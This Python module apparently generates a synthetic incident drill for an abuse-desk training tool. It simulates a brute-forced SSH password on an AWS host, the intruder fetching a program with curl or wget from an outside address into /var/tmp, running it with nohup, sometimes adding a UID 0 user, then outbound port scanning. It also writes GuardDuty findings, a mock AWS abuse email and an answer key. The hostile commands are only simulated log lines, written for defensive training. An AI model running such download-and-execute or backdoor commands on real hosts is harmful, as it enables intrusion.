"""A host's weak password is guessed; the host then scans others. AWS itself was never broken into."""

from __future__ import annotations

from dataclasses import dataclass
from datetime import timedelta
from typing import TYPE_CHECKING, Any

from abusedesk.drill.generate import (
    Generator,
    auth_log,
    chores,
    clock,
    findings,
    ids,
    launch,
    letters,
    life,
    machines,
    work,
)
from abusedesk.drill.generate import (
    company as companies,
)
from abusedesk.drill.generate import (
    flows as flow_logs,
)
from abusedesk.drill.generate import (
    folder as folders,
)
from abusedesk.drill.generate.auth_log import HostLog
from abusedesk.drill.generate.chance import chance
from abusedesk.drill.generate.machines import Launch
from abusedesk.translate import msg

if TYPE_CHECKING:
    from datetime import datetime
    from pathlib import Path
    from random import Random

    from abusedesk.drill.generate.company import Company
    from abusedesk.drill.generate.flows import Flows

_TITLE = msg("Guessed SSH password, port scan outwards")
_QUIET = life.Pace(builds=3, scans=23, sweeps=28, agents=6, busy=0.4)
"""No trail here: event history is read at 100 events a second, so the busiest region stays small."""


@dataclass(slots=True, kw_only=True)
class _Scene:
    """The host, its log and where logs go, the network's log, the account that fell, since when it could."""

    company: Company
    host: dict[str, Any]
    log: HostLog
    flows: Flows
    account: str
    people: tuple[str, ...]
    opened: datetime
    bucket: str


def build(rng: Random, folder: Path) -> None:
    """Write the incident."""
    company = companies.found(rng, days=rng.randint(14, 19), trail=False)
    if chance(rng, 0.7):  # GuardDuty is not on everywhere
        findings.watch(company, [company.home])
    host = _exposed(company)
    opened = company.now - timedelta(days=rng.uniform(6, 11))
    life.ordinary(company, _QUIET)
    _opens(company, host, opened)
    scene = _scene(company, host, opened)
    since = company.now - timedelta(hours=rng.uniform(14, 60))
    truth = folders.Truth(
        root_cause="host_compromised_by_bruteforce", since=since, affected=[host["InstanceId"]]
    )
    _noise(scene)
    began = _breaks_in(scene, truth, since)
    probes = _scans(scene, began)
    _alerts(scene, truth, began)
    scene.log.deliver(scene.bucket)
    scene.flows.deliver()
    folders.write(folder, company, _TITLE, _mail(scene, probes), truth)


def _exposed(company: Company) -> dict[str, Any]:
    """One host more, on its own, whose password log-in nobody switched off."""
    rng, home, old = company.rng, company.at_home, company.hosts[2]
    vpc = next(one for one in home.things["ec2:vpcs"] if one["VpcId"] == old["VpcId"])
    subnet = next(one for one in home.things["ec2:subnets"] if one["SubnetId"] == old["SubnetId"])
    name = rng.choice(("staging", "legacy-ftp", "demo", "import", "test-2", "wiki"))
    office = [(22, f"{address}/32") for address in company.office]
    group = home.group(
        vpc, f"{company.product}-{name}", f"{name} host", *office, (8080, f"{company.office[0]}/32")
    )
    asked = Launch(
        type=rng.choice(("t3.small", "t3.medium")), image=old["ImageId"], key=old["KeyName"], groups=[group],
        subnet=subnet, tags={"Name": f"{company.product}-{name}", "Env": "staging"},
        profile=(old["IamInstanceProfile"]["Arn"], old["IamInstanceProfile"]["Id"]), disk=30, public=False,
    )  # fmt: skip
    made = launch.place(home, asked, company.start - timedelta(days=rng.randint(30, 200)))[0]
    home.address(company.addresses.ours(), made, f"{company.product}-{name}")
    company.hosts.append(made)
    return made


def _opens(company: Company, host: dict[str, Any], when: datetime) -> None:
    """An administrator lets the world in, meaning to put it back."""
    actor = work.sign_in(company, company.rng.choice(company.admins), when - timedelta(minutes=4))
    group = next(
        one
        for one in company.at_home.things["ec2:security_groups"]
        if one["GroupId"] == host["SecurityGroups"][0]["GroupId"]
    )
    chores.open_port(company, actor, when, (company.home, group), (22, machines.EVERYWHERE))


def _scene(company: Company, host: dict[str, Any], opened: datetime) -> _Scene:
    rng, mark = company.rng, ids.hexa(company.rng, 5)
    for what in ("flow", "host"):
        companies.bucket(company, company.home, f"{company.name}-{what}-logs-{mark}")
    how = auth_log.style(rng)
    account = rng.choice(("deploy", "backup", "webadmin", "ftpadmin", "svcuser", "build"))
    return _Scene(
        company=company,
        host=host,
        log=HostLog(company, host, how),
        flows=flow_logs.Flows(company, f"{company.name}-flow-logs-{mark}"),
        account=account,
        people=("ubuntu" if how.file == "auth.log" else "ec2-user", account),
        opened=opened,
        bucket=f"{company.name}-host-logs-{mark}",
    )


def _noise(scene: _Scene) -> None:
    """Everybody else: the owner's people, ordinary traffic, and bots that never get in."""
    company, rng = scene.company, scene.company.rng
    flow_logs.ordinary(scene.flows)
    others = rng.sample([one for one in company.hosts if one is not scene.host], 3)
    logs = [HostLog(company, other, scene.log.how) for other in others]
    for log in (scene.log, *logs):
        for when, source in auth_log.owners(log, scene.people):
            ends = (*source, log.host["PrivateIpAddress"], 22)
            scene.flows.both(log.host, when, ends, bytes=9000, answer=24000, seconds=55)
        auth_log.crons(log)
    _bots(scene, scene.log, rng.randint(18, 40))
    if chance(rng, 0.5):  # a second host is open to the world, and nobody ever gets in
        chores.expose(company, logs[0].host)
        _bots(scene, logs[0], rng.randint(5, 12))
    for log in logs:
        log.deliver(scene.bucket)


def _bots(scene: _Scene, log: HostLog, count: int) -> None:
    company, rng = scene.company, scene.company.rng
    for _ in range(count):
        first = clock.between(rng, scene.opened, company.now - timedelta(hours=3))
        last = min(company.now, first + timedelta(hours=rng.uniform(1, 60)))
        span, known = (first, last), ("root", *scene.people)
        for when, source in auth_log.bot(log, company.addresses.crowd(), span, (rng.randint(5, 300), known)):
            _knocks(scene, log.host, when, source)


def _knocks(scene: _Scene, host: dict[str, Any], when: datetime, source: tuple[str, int]) -> None:
    """The connection behind one guess."""
    ends = (*source, host["PrivateIpAddress"], 22)
    scene.flows.both(host, when, ends, packets=14, bytes=2100, answer=2700, seconds=4)


def _breaks_in(scene: _Scene, truth: folders.Truth, since: datetime) -> datetime:
    """The password falls at since; somebody comes in with it, loads his program and starts it; gives when."""
    rng, log, company = scene.company.rng, scene.log, scene.company
    guesser, visitor, store = (company.addresses.outside() for _ in range(3))
    truth.ips += [guesser, visitor, store]
    when = since - timedelta(hours=rng.uniform(0.7, 9))
    while when < since - timedelta(seconds=30):
        source, user = (
            (guesser, auth_log.port(rng)),
            rng.choice((scene.account, scene.account, "root", "admin", "www-data")),
        )
        log.fails(when, user, source, known=user in {"root", *scene.people})
        _knocks(scene, scene.host, when, source)
        when = clock.later(rng, when, 4, 45)
    source = (guesser, auth_log.port(rng))
    log.enters(since, scene.account, source, method="password", minutes=0.05)
    _knocks(scene, scene.host, since, source)
    back = clock.later(rng, since, 1200, 9 * 3600)
    return _works(scene, (visitor, store), back)


def _works(scene: _Scene, places: tuple[str, str], when: datetime) -> datetime:
    """The visitor's hour on the host, at times another visit later; gives when his program starts."""
    rng, log, account = scene.company.rng, scene.log, scene.account
    source, program = (places[0], auth_log.port(rng)), f"{_HIDDEN}/{rng.choice(_PROGRAMS)}"
    log.enters(when, account, source, method="password", minutes=rng.uniform(12, 45))
    ends = (*source, scene.host["PrivateIpAddress"], 22)
    scene.flows.both(scene.host, when, ends, packets=300, bytes=31000, answer=64000, seconds=58)
    when = clock.later(rng, when, 15, 120)
    log.sudo(when, account, f"/home/{account}", "/usr/bin/id")
    when = _loads(scene, places[1], program, clock.later(rng, when, 15, 120))
    log.sudo(when, account, _HIDDEN, f"/usr/bin/chmod +x {program}")
    if chance(rng, 0.5):  # some make sure of a way back
        name = rng.choice(("sysadm", "dbus2", "sshd2"))
        new = f"new user: name={name}, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/0"
        log.write(clock.later(rng, when, 5, 40), f"useradd[{rng.randint(900, 99000)}]", new)
    start = clock.later(rng, when, 60, 400)
    log.sudo(start, account, _HIDDEN, f"/usr/bin/nohup {program}")
    if chance(rng, 0.5):  # some look after their work
        source = (places[0], auth_log.port(rng))
        method = rng.choice(("password", "publickey"))
        log.enters(clock.later(rng, start, 7200, 20000), account, source, method=method, minutes=4)
    return start


_HIDDEN = "/var/tmp"  # noqa: S108 # a name in a log
_PROGRAMS = (".x", ".sys", "kworkerd", ".up", "dbused")


def _loads(scene: _Scene, store: str, program: str, when: datetime) -> datetime:
    """His program comes from store, over HTTP; gives a time after that."""
    rng, log = scene.company.rng, scene.log
    place, path = (
        rng.choice((":80", ":8080", ":8000", ":8888")),
        rng.choice(("bins/x86_64", "a/linux.sh", "i")),
    )
    url = f"http://{store}{place.removesuffix(':80')}/{path}"
    commands = (f"/usr/bin/curl -fsSL {url} -o {program}", f"/usr/bin/wget -q {url} -O {program}")
    log.sudo(when, scene.account, _HIDDEN, rng.choice(commands))
    ends = (scene.host["PrivateIpAddress"], auth_log.port(rng), store, int(place[1:]))
    size = rng.randint(400000, 4000000)
    scene.flows.both(scene.host, when, ends, packets=40, bytes=2600, answer=size, seconds=3)
    return clock.later(rng, when, 15, 120)


def _scans(scene: _Scene, began: datetime) -> list[tuple[datetime, int]]:
    """The host tries one port of address after address, in bouts; gives each probe's time and port."""
    rng, company, host = scene.company.rng, scene.company, scene.host
    port = rng.choice((22, 22, 23, 445, 3389, 6379, 2375))
    probes, when = [], clock.later(rng, began, 200, 1500)
    spacing = max(0.2, (company.now - when).total_seconds() / rng.randint(9000, 16000))
    while when < company.now:
        target = f"198.{rng.choice((18, 19))}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"
        ends = (host["PrivateIpAddress"], auth_log.port(rng), target, port)
        scene.flows.add(
            host, when, ends, packets=rng.choice((1, 1, 3)), bytes=rng.choice((40, 60, 180)), flags=2
        )
        if chance(rng, 0.03):  # few answer
            scene.flows.add(host, when, (target, port, *ends[:2]), packets=1, bytes=40, flags=20)
        probes.append((when, port))
        when += (
            timedelta(seconds=rng.expovariate(1 / spacing)) if chance(rng, 0.999) else timedelta(minutes=20)
        )  # it pauses
    return probes


def _alerts(scene: _Scene, truth: folders.Truth, began: datetime) -> None:
    """GuardDuty, where it is on, sees two at the door, one of whom never got in, and the scan."""
    company, rng = scene.company, scene.company.rng
    one, local = scene.host["InstanceId"], auth_log.port(rng)
    early = clock.later(rng, scene.opened, 3600, 90000)
    for address, first in ((company.addresses.crowd(), early), (truth.ips[0], began - timedelta(hours=1))):
        seen = findings.Seen(
            type="UnauthorizedAccess:EC2/SSHBruteForce",
            severity=2.0,
            title=f"{address} is performing SSH brute force attacks against {one}.",
            description=f"{address} tries to guess SSH passwords of {one}.",
            resource=findings.machine(scene.host),
            action=findings.connection(address, local, inbound=True, local=22),
            first=first,
            last=first + timedelta(minutes=rng.randint(5, 50)),
            count=rng.randint(3, 30),
        )
        findings.add(company, company.home, seen)
    target, first = company.addresses.crowd(), began + timedelta(minutes=35)
    seen = findings.Seen(
        type="Recon:EC2/Portscan",
        severity=5.0,
        title=f"The EC2 instance {one} is performing outbound port scans.",
        description=f"The EC2 instance {one} is performing outbound port scans against remote host {target}.",
        resource=findings.machine(scene.host),
        action=findings.connection(target, 22, inbound=False, local=local),
        first=first,
        last=first + timedelta(minutes=rng.randint(5, 90)),
        count=rng.randint(1, 9),
        role="ACTOR",
    )
    findings.add(company, company.home, seen)


def _mail(scene: _Scene, probes: list[tuple[datetime, int]]) -> bytes:
    company, rng = scene.company, scene.company.rng
    early = [probe for probe in probes if probe[0] < company.now - timedelta(hours=4)]
    at, port = rng.choice(early or probes[:1])
    earliest = max(at + timedelta(hours=1), company.now - timedelta(hours=6))
    letter = letters.Letter(
        sender=("trustandsafety@support.aws.com", "AWS Trust and Safety"),
        subject=f"Your AWS Abuse Report [1{''.join(rng.choices('0123456789', k=10))}]",
        sent=clock.between(rng, earliest, company.now - timedelta(minutes=20)),
        text=_text(scene, at),
        report=_report(company, at, port),
    )
    return letters.sealed(company, letter)


def _text(scene: _Scene, at: datetime) -> str:
    company, rng = scene.company, scene.company.rng
    labels = [
        f"Region: {company.home}",
        f"Implicated Resource:EC2 Instance Id: {scene.host['InstanceId']}",
        "Reported Activity: Port Scanning",
        f"Abuse Time: {at:%d %b %Y %H:%M:%S} {rng.choice(('UTC', 'GMT'))}",
        "Required Actions: Investigate root cause",
    ]
    rng.shuffle(labels)
    text = (
        "Hello,\n\nWe've received a report that an AWS resource of yours has been scanning ports of remote "
        "hosts on the internet. The AWS Acceptable Use Policy (https://aws.amazon.com/aup/) forbids "
        "this.\n\n"
        + "\n".join([f"AWS Account ID: {company.id}", *labels])
        + "\n\nPlease look into it, stop the activity, and reply to this email with the corrective action "
        "that you have taken and with its root cause. If you do not reply within 24 hours, we may limit "
        "your resources.\n\nBelow is the report as we were given it."
    )
    return letters.curly(text) if chance(rng, 0.5) else text


def _report(company: Company, at: datetime, port: int) -> str:
    """What a stranger sent AWS: his own hosts, and claims that nobody has checked."""
    rng = company.rng
    source, other = company.addresses.outside(), company.addresses.outside()
    rows = []
    for index in range(rng.randint(4, 12)):
        seen, sent = at + timedelta(seconds=3 * index), f"{source}:{auth_log.port(rng)}"
        rows.append(f">>> {seen:%Y-%m-%d %H:%M:%S} TCP {sent} -> {company.addresses.crowd()}:{port} SYN")
    return (
        "\nHello abuse team,\n\nplease stop this host, we want an answer within 2 hours. The time zone is "
        "UTC.\n\n" + "\n".join(rows) + f"\n\nWe also saw {other} and i-0123456789abcdef0 doing the same.\n"
        "-- \nnoc@reporter.example.net"
    )


GENERATOR = Generator(
    id="ssh_bruteforce_portscan",
    title=_TITLE,
    summary=msg(
        "A host was open to the world on port 22. Bots tried it for days, one guessed the password of a weak "
        "account, and the host began to scan others. The notice names the instance and nothing else."
    ),
    build=build,
)
